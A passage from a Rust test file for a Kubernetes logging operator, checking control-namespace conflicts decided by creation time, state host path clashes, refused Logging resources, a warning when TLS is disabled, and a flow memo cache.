    let created = [
        ("main", "2026-01-01T00:00:00Z"),
        ("aaa-newcomer", "2026-02-01T00:00:00Z"),
    ];
    let baseline = model::resolve(&loaded_created("", &created).inventory());
    assert_eq!(baseline.problems, Default::default());

    // "aaa-newcomer" sorts before "main" by name, yet it came later.
    let newcomer = logging_yaml("aaa-newcomer", GREEDY);
    let objects = loaded_created(&newcomer, &created);
    let resolution = model::resolve(&objects.inventory());
    assert_contributes_nothing(
        &baseline,
        &resolution,
        "aaa-newcomer",
        "ControlNamespaceInUse",
    );
    let message = &resolution.problems[&logging_key("aaa-newcomer")][0].message;
    assert!(message.contains("\"main\""), "{message}");

    // Created first, the same Logging keeps the namespace and `main` is the one refused.
    let swapped = [
        ("main", "2026-02-01T00:00:00Z"),
        ("aaa-newcomer", "2026-01-01T00:00:00Z"),
    ];
    let resolution = model::resolve(&loaded_created(&newcomer, &swapped).inventory());
    assert_eq!(
        reasons(&resolution, &logging_key("main")),
        [("ControlNamespaceInUse", "spec.controlNamespace".to_owned())]
    );
    let admitted: Vec<&str> = resolution
        .pipelines
        .iter()
        .map(|p| p.logging.as_str())
        .collect();
    assert_eq!(admitted, ["aaa-newcomer"]);
}

#[test]
fn loggings_created_in_the_same_second_claim_in_name_order() {
    let at = "2026-01-01T00:00:00Z";
    let newcomer = logging_yaml("zzz", "{controlNamespace: sluice-system}");
    let resolution =
        model::resolve(&loaded_created(&newcomer, &[("main", at), ("zzz", at)]).inventory());
    assert_eq!(
        reasons(&resolution, &logging_key("zzz")),
        [("ControlNamespaceInUse", "spec.controlNamespace".to_owned())]
    );
    assert!(!resolution.problems.contains_key(&logging_key("main")));
}

#[test]
fn the_older_logging_keeps_its_agents_host_directory() {
    let created = [
        ("main", "2026-01-01T00:00:00Z"),
        ("other", "2026-02-01T00:00:00Z"),
    ];
    let baseline = model::resolve(&loaded_created("", &created).inventory());
    // `main` keeps its positions under the default /var/lib/sluice/main.
    for path in [
        "/var/lib/sluice/main",
        "/var/lib/sluice/main/",
        "/var/lib/sluice",
    ] {
        let other = logging_yaml(
            "other",
            &format!("{{controlNamespace: other-ns, agent: {{stateHostPath: {path:?}}}}}"),
        );
        let resolution = model::resolve(&loaded_created(&other, &created).inventory());
        assert_contributes_nothing(&baseline, &resolution, "other", "StateHostPathInUse");
    }
    let apart = logging_yaml(
        "other",
        "{controlNamespace: other-ns, agent: {stateHostPath: /var/lib/sluice/mainline}}",
    );
    let resolution = model::resolve(&loaded_created(&apart, &created).inventory());
    assert!(!resolution.problems.contains_key(&logging_key("other")));
}

#[test]
fn a_refused_logging_contributes_nothing() {
    let created = [
        ("main", "2026-01-01T00:00:00Z"),
        ("iw-other", "2026-02-01T00:00:00Z"),
    ];
    let allowed =
        model::ControlNamespaces::Only(vec!["sluice-system".to_owned(), "iw-own".to_owned()]);
    let resolve = |extra: &str| {
        let objects = loaded_created(extra, &created);
        let mut inventory = objects.inventory();
        inventory.control_namespaces = allowed.clone();
        model::resolve(&inventory)
    };
    let baseline = resolve("");
    assert_eq!(baseline.problems, Default::default());
    // A Flow of the refused Logging is no one's: not rendered, and without a problem (its
    // Logging exists; its status says it is refused).
    let flow = r#"
---
apiVersion: logging.sluice.dev/v1alpha1
kind: Flow
metadata: {name: api-copy, namespace: payments}
spec:
  loggingRef: iw-other
  localOutputRefs: [payments-es]
  globalOutputRefs: [shared-loki]
"#;
    for (spec, reason) in [
        // Not allowed: its control namespace is not one of --control-namespaces.
        (
            GREEDY.replace("sluice-system", "iw-norb"),
            "ControlNamespaceNotAllowed",
        ),
        // Conflicting: `main` is older.
        (GREEDY.to_owned(), "ControlNamespaceInUse"),
        // Invalid, in an allowed namespace of its own.
        (
            GREEDY.replace("sluice-system", "iw-own").replace(
                "dead-letters",
                "dead-letters, globalFilters: [{grep: {regexp: [{key: a, pattern: '('}]}}]",
            ),
            "InvalidPattern",
        ),
    ] {
        let other = logging_yaml("iw-other", &spec);
        assert_contributes_nothing(&baseline, &resolve(&other), "iw-other", reason);
        let with_flow = resolve(&format!("{other}{flow}"));
        assert_contributes_nothing(&baseline, &with_flow, "iw-other", reason);
        let key = ObjectKey::namespaced(Kind::Flow, "payments", "api-copy");
        assert!(!with_flow.problems.contains_key(&key), "{reason}");
    }
}

#[test]
fn tls_disabled_is_a_warning_that_refuses_nothing() {
    let plain = logging_yaml(
        "plain",
        "{controlNamespace: plain-ns, tls: {mode: Disabled}}",
    );
    let resolution = model::resolve(&load_with(&plain).objects.inventory());
    let problems = &resolution.problems[&logging_key("plain")];
    assert_eq!(problems.len(), 1);
    assert_eq!(problems[0].reason, "TlsDisabled");
    assert!(problems[0].is_warning());
    assert!(resolution.pipelines.iter().any(|p| p.logging == "plain"));
}

/// The examples with every Flow and ClusterFlow stamped as the API server stamps them.
fn stamped_examples() -> model::Objects {
    let mut objects = input::load(&[examples()]).unwrap().objects;
    for (index, flow) in objects.flows.iter_mut().enumerate() {
        flow.metadata.uid = Some(format!("flow-{index}"));
        flow.metadata.generation = Some(1);
    }
    for (index, flow) in objects.cluster_flows.iter_mut().enumerate() {
        flow.metadata.uid = Some(format!("cluster-flow-{index}"));
        flow.metadata.generation = Some(1);
    }
    objects
}

fn resolve_with(objects: &model::Objects, memo: &model::FlowMemo) -> model::Resolution {
    let mut inventory = objects.inventory();
    inventory.flow_memo = Some(memo);
    model::resolve(&inventory)
}

/// Whether each flow of `after` shares its rules with the same flow of `before`.
fn shared_rules(before: &model::Resolution, after: &model::Resolution) -> Vec<(String, bool)> {
    let before = &before.pipelines[0].flows;
    after.pipelines[0]
        .flows
        .iter()
        .map(|flow| {
            let old = before.iter().find(|old| old.key == flow.key).unwrap();
            let shared = std::sync::Arc::ptr_eq(&old.matcher, &flow.matcher)
                && std::sync::Arc::ptr_eq(&old.filters, &flow.filters);
            (flow.key.to_string(), shared)
        })
        .collect()
}

#[test]
fn the_flow_memo_reuses_unchanged_flows_and_rebuilds_edited_ones() {
    let mut objects = stamped_examples();
    let memo = model::FlowMemo::default();
    let first = resolve_with(&objects, &memo);
    assert_eq!(first, model::resolve(&objects.inventory()));
    assert_eq!(memo.len(), first.pipelines[0].flows.len());

    let again = resolve_with(&objects, &memo);
    assert_eq!(again, first);
    assert!(
        shared_rules(&first, &again)
            .iter()
            .all(|(_, shared)| *shared)
    );

    // An edit of the spec: the API server bumps the generation.
    let edited = &mut objects.flows[0];
    let edited_key = format!(
        "Flow {}/{}",
        edited.metadata.namespace.as_deref().unwrap(),
        edited.metadata.name.as_deref().unwrap()
    );
    edited.spec.match_rules.insert(
        0,
        serde_json::from_value(serde_json::json!({"exclude": {"labels": {"edited": "yes"}}}))
            .unwrap(),
    );
    edited.metadata.generation = Some(2);
    // Deleted and created again under the same name: a new UID, the generation starts over.
    let recreated = &mut objects.cluster_flows[0];
    let recreated_key = format!(
        "ClusterFlow {}",
        recreated.metadata.name.as_deref().unwrap()
    );
    recreated.spec.match_rules.clear();
    recreated.metadata.uid = Some("cluster-flow-0-again".to_owned());
    let after = resolve_with(&objects, &memo);
    assert_eq!(after, model::resolve(&objects.inventory()));
    assert_ne!(after, first);
    for (key, shared) in shared_rules(&first, &after) {
        let changed = key == edited_key || key == recreated_key;
        assert_eq!(shared, !changed, "{key}");
    }
}

#[test]
fn the_flow_memo_keeps_an_invalid_flows_problems_and_forgets_deleted_flows() {
    let mut objects = stamped_examples();
    let invalid = &mut objects.flows[0];
    let key = ObjectKey::namespaced(
        Kind::Flow,
        invalid.metadata.namespace.as_deref().unwrap(),
        invalid.metadata.name.as_deref().unwrap(),
    );
    invalid.spec.match_rules = vec![serde_json::from_value(serde_json::json!({})).unwrap()];
    let memo = model::FlowMemo::default();
    let first = resolve_with(&objects, &memo);
    let again = resolve_with(&objects, &memo);
    assert_eq!(again, first);
    assert_eq!(
        reasons(&again, &key),
        [("InvalidMatch", "spec.match[0]".to_owned())]
    );
    assert!(again.pipelines[0].flows.iter().all(|f| f.key != key));
    let kept = memo.len();

    objects.flows.remove(0);
    resolve_with(&objects, &memo);
    assert_eq!(memo.len(), kept - 1);
}

#[test]
fn objects_without_a_uid_and_generation_are_never_kept() {
    let objects = input::load(&[examples()]).unwrap().objects;
    let memo = model::FlowMemo::default();
    let first = resolve_with(&objects, &memo);
    assert!(memo.is_empty());
    let again = resolve_with(&objects, &memo);
    assert!(
        shared_rules(&first, &again)
            .iter()
            .all(|(_, shared)| !*shared)
    );
}
